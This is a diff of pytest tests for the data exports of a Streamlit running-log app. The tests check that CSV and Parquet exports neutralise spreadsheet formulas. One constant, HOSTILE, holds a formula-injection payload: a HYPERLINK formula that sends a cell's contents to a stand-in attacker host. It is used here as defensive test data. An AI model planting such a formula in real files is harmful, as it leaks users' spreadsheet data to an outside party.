@@ -3,14 +3,18 @@
 from __future__ import annotations
 
 import datetime as dt
+import io
 from pathlib import Path
+from typing import ClassVar
 
 import pandas as pd
 import pytest
-from streamlit.testing.v1 import AppTest
+from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+from streamlit.testing.v1 import AppTest, app_test
 
 from analysis import columns as c
 from analysis.config import ATHLETE_DB
+from analysis.csvsafe import to_safe_parquet
 from analysis.settings import AthleteSettings
 from analysis.store import Store
 from analysis.units import KM_PER_MILE
@@ -107,3 +111,76 @@ def _planned(table: pd.DataFrame) -> float:
 
 def _plan_table(at: AppTest) -> pd.DataFrame:
     return next(d.value for d in at.dataframe if c.PLANNED in d.value.columns)
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+EXPORT_KEYS = (
+    "export_daily_csv",
+    "export_daily_parquet",
+    "export_activities_csv",
+    "export_activities_parquet",
+)
+
+
+def _hostile_wellness(data_dir: Path) -> None:
+    with Store(data_dir / ATHLETE_DB) as store:
+        store.upsert_wellness(
+            pd.DataFrame({c.DATE: [pd.Timestamp("2026-09-02")], c.RESTING_HR_BPM: [48.0],
+                          c.NOTES: [HOSTILE]})
+        )  # fmt: skip
+
+
+class _KeptMedia(MemoryMediaFileStorage):
+    """AppTest's media storage, kept so a test can read what a download button serves."""
+
+    made: ClassVar[list[MemoryMediaFileStorage]] = []
+
+    def __init__(self, endpoint: str) -> None:
+        super().__init__(endpoint)
+        _KeptMedia.made.append(self)
+
+
+def _downloads(at: AppTest) -> dict[str, bytes]:
+    """Each download button's key and the bytes it serves."""
+    storage = _KeptMedia.made[-1]
+    got = {}
+    for button in at.get("download_button"):
+        key = button.proto.id.rsplit("-", 1)[-1]
+        got[key] = storage.get_file(button.proto.url.rsplit("/", 1)[-1]).content
+    return got
+
+
+def test_exports_are_made_on_click_and_neutralise_formulas(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", _KeptMedia)
+    _fill(tmp_path)
+    _hostile_wellness(tmp_path)
+    at = _app(tmp_path, monkeypatch)
+    at.switch_page("pages/share.py").run()
+    assert not at.exception, at.exception
+    assert not set(_downloads(at)) & set(EXPORT_KEYS)  # nothing is built before the click
+    at.button(key="export_prepare").click().run()
+    assert not at.exception, at.exception
+    files = _downloads(at)
+    assert set(EXPORT_KEYS) <= set(files)
+    daily = files["export_daily_csv"].decode("utf-8")
+    assert daily.startswith("# Stridelog daily export")
+    frame = pd.read_csv(io.StringIO(daily), comment="#")
+    notes = frame[c.NOTES].dropna().tolist()
+    assert notes == ["'" + HOSTILE]
+    parquet = pd.read_parquet(io.BytesIO(files["export_daily_parquet"]))
+    assert parquet[c.NOTES].dropna().tolist() == ["'" + HOSTILE]
+    activities = pd.read_csv(io.BytesIO(files["export_activities_csv"]))
+    assert len(activities) == 21
+    assert len(pd.read_parquet(io.BytesIO(files["export_activities_parquet"]))) == 21
+
+
+def test_parquet_cells_are_neutralised_and_mixed_columns_become_text() -> None:
+    frame = pd.DataFrame(
+        {"note": ["=1+2", "-3", None], "mixed": [1, "@x", None], "n": [1.0, -2.0, 3.0]}
+    )
+    back = pd.read_parquet(io.BytesIO(to_safe_parquet(frame, ["made by a test"])))
+    assert back["note"].dropna().tolist() == ["'=1+2", "-3"]
+    assert back["mixed"].dropna().tolist() == ["1", "'@x"]
+    assert back["n"].tolist() == [1.0, -2.0, 3.0]
